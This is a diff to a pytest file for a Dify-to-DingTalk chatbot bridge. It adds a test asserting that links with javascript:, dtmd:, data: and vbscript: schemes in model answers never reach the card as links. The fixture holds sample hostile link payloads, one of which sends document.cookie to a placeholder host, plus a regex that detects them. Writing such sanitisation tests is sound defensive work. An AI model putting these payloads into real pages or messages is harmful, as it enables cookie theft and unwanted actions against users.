@@ -6,6 +6,7 @@ from __future__ import annotations
 
 import base64
 import json
+import re
 from typing import Any
 
 import pytest
@@ -242,6 +243,23 @@ async def test_images_elsewhere_stay_and_inline_images_and_dify_links_are_made_u
         f"Inline: ![dot]({media.media_id})\n\n"
         f"Download [the report]({dify.public_url}/files/tools/r.pdf?sign=abc)."
     )
+
+
+async def test_links_with_unsafe_schemes_from_the_model_never_reach_the_card(tmp_path, dingtalk, dify):
+    answer = (
+        "Open [the form](javascript:fetch('//x/'+document.cookie)) or [pay](dtmd://dingtalkclient/sendMessage?"
+        "content=pay) or [page](data:text/html;base64,PHNjcmlwdD4=) or <vbscript:msgbox>.\n\n"
+        "![x](javascript:alert(1)) Details: [docs](https://example.com/docs)."
+    )
+    dify.configure(dify_key("chatbot"), answer=answer)
+    dify.enable_suggested_questions(dify_key("chatbot"), ["[Tap](javascript:alert(2)) here?"])
+    async with running_bot(write_config(tmp_path / "c.yaml", dingtalk, dify)):
+        card = await send(dingtalk, dingtalk.make_text_message("links please"))
+    unsafe_link = re.compile(r"(\]\(|<)\s*<?\s*(javascript|dtmd|data|vbscript):", re.IGNORECASE)
+    for content in [*card.contents, card.final_content]:
+        assert not unsafe_link.search(content), content  # shown as text at most, never as a link
+    assert "[docs](https://example.com/docs)" in card.final_content
+    assert "Tap" in card.final_content  # the suggestion stays, as text
 
 
 async def test_a_file_name_in_chinese_reaches_dify_as_it_is(tmp_path, dingtalk, dify):
